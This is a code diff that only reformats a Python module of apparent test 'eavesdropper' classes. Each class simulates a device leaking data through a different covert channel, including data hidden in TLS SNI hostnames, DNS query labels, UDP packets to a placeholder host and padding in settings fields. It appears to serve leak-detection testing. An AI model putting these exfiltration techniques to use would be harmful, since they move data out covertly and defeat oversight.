@@ -13,7 +13,12 @@ from contextlib import suppress
 from functools import cache
 from typing import Any
 
-from earwitness.reference_impl.device.link import Link, LinkLost, Route, network
+from earwitness.reference_impl.device.link import (
+    Link,
+    LinkLost,
+    Route,
+    network,
+)
 from earwitness.reference_impl.faults.liars.eavesdropper import Eavesdropper
 
 PATIENCE = 2.0
@@ -48,7 +53,9 @@ class Post(Eavesdropper):
             {},
         )
 
-    def ask_by_http(self, method: str, path: str, body: bytes, headers: dict[str, str]) -> None:
+    def ask_by_http(
+        self, method: str, path: str, body: bytes, headers: dict[str, str]
+    ) -> None:
         route = self.link.route
         context = nameless(route)
         connection = http.client.HTTPSConnection(
@@ -125,7 +132,9 @@ class Closing(Eavesdropper):
                 TimeoutError,
                 asyncio.TimeoutError,
             ):
-                network.done(self.close_with(text[begin : begin + self.longest]))
+                network.done(
+                    self.close_with(text[begin : begin + self.longest])
+                )
 
     async def close_with(self, reason: str) -> None:
         connection = await self.link.connect()
@@ -137,7 +146,12 @@ class Plain(Eavesdropper):
 
     def send_up(self, content: bytes) -> None:
         route = self.link.route
-        with suppress(OSError), socket.create_connection((route.host, route.port), PATIENCE) as way:
+        with (
+            suppress(OSError),
+            socket.create_connection(
+                (route.host, route.port), PATIENCE
+            ) as way,
+        ):
             way.sendall(content)
 
 
@@ -149,13 +163,21 @@ class ServerNames(Eavesdropper):
 
     def send_up(self, content: bytes) -> None:
         text = content[::8].hex()
-        parts = [text[begin : begin + self.label] for begin in range(0, len(text), self.label)]
+        parts = [
+            text[begin : begin + self.label]
+            for begin in range(0, len(text), self.label)
+        ]
         for begin in range(0, len(parts), 4):
             self.shake_hands(".".join(parts[begin : begin + 4]) + ".example")
 
     def shake_hands(self, name: str) -> None:
         route = self.link.route
-        with suppress(OSError), socket.create_connection((route.host, route.port), PATIENCE) as way:
+        with (
+            suppress(OSError),
+            socket.create_connection(
+                (route.host, route.port), PATIENCE
+            ) as way,
+        ):
             trusting(route).wrap_socket(way, server_hostname=name).close()
 
 
@@ -181,7 +203,10 @@ class Datagrams(Eavesdropper):
     port = 9_999
 
     def send_up(self, content: bytes) -> None:
-        with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
+        with (
+            suppress(OSError),
+            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way,
+        ):
             way.sendto(content, (NOWHERE, self.port))
 
 
@@ -190,10 +215,21 @@ class NamesLookedUp(Eavesdropper):
 
     def send_up(self, content: bytes) -> None:
         text = content[::64].hex()
-        with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
-            question = b"".join(bytes([len(part)]) + part for part in (text[:60].encode(), b"example"))
+        with (
+            suppress(OSError),
+            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way,
+        ):
+            question = b"".join(
+                bytes([len(part)]) + part
+                for part in (text[:60].encode(), b"example")
+            )
             # A question for an address (RFC 1035): header with one question, name, type A, class IN.
-            way.sendto(bytes.fromhex("abcd01000001000000000000") + question + b"\0\0\1\0\1", (NOWHERE, 53))
+            way.sendto(
+                bytes.fromhex("abcd01000001000000000000")
+                + question
+                + b"\0\0\1\0\1",
+                (NOWHERE, 53),
+            )
 
 
 class SecondProcess(Eavesdropper):
@@ -208,7 +244,12 @@ class SecondProcess(Eavesdropper):
         )
         command = [sys.executable, "-I", "-S", "-c", program]
         with suppress(OSError, subprocess.SubprocessError):
-            subprocess.run(command, input=content, timeout=5 * PATIENCE, stderr=subprocess.DEVNULL)
+            subprocess.run(
+                command,
+                input=content,
+                timeout=5 * PATIENCE,
+                stderr=subprocess.DEVNULL,
+            )
 
 
 class Beats(Eavesdropper):
@@ -230,4 +271,6 @@ class Sizes(Eavesdropper):
     def send_up(self, content: bytes) -> None:
         loudness = max(content[1::2]) % 128
         with suppress(LinkLost):
-            self.link.ask({"type": "settings", "device": self.name + " " * loudness})
+            self.link.ask(
+                {"type": "settings", "device": self.name + " " * loudness}
+            )
